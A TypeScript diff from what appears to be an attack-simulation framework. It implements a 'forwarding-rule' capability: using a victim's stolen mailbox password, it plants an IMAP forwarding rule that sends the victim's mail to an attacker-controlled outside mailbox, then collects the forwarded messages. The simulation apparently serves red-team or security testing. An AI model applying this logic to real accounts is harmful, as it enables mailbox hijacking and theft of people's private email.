@@ -1,7 +1,9 @@
-import { ADDRESS, capabilitySpec, type ParamsOf } from './capability.js';
+import { ADDRESS, capabilitySpec, type ParamsOf, capability } from './capability.js';
+import { plantForwardingRule } from '@ssmax/sim-attacker';
+import { nonMemberMx } from '../executor/outside-mx.js';
 
 /** Plants a forwarding rule to the attacker with the stolen mailbox password (incident 7). */
-export const forwardingRule = capabilitySpec('forwarding-rule', {
+const spec = capabilitySpec('forwarding-rule', {
   phase: 'foothold',
   params: {
     type: 'object',
@@ -13,6 +15,20 @@ export const forwardingRule = capabilitySpec('forwarding-rule', {
     },
   },
 });
-export type ForwardingRuleParams = ParamsOf<typeof forwardingRule>;
+export type ForwardingRuleParams = ParamsOf<typeof spec>;
 
-// run: joins this module with the executor split (issue 9 §3).
+export const forwardingRule = capability(spec, {
+  leavesState: true,
+  async run(cell, p) {
+    const victim = cell.user(p.account);
+    const o = await plantForwardingRule({ kind: 'stolen-password', imap: { host: victim.org.mailbox.host, port: victim.org.mailbox.imapPort }, user: victim.address, password: victim.password, rules: victim.org.mailbox }, { forwardTo: p.forwardTo });
+    cell.outcomes.push(o);
+    if (o.error) return;
+    // The attacker's own outside mailbox receives whatever the rule forwards.
+    const fwd = await nonMemberMx(cell.world, p.forwardTo.split('@')[1]!);
+    cell.closeLater(`the forwarding target ${p.forwardTo}`, async () => {
+      for (const raw of fwd.received) cell.obtained.push({ kind: 'body', bytes: raw, note: 'forwarded copy' });
+      await fwd.close();
+    });
+  },
+});
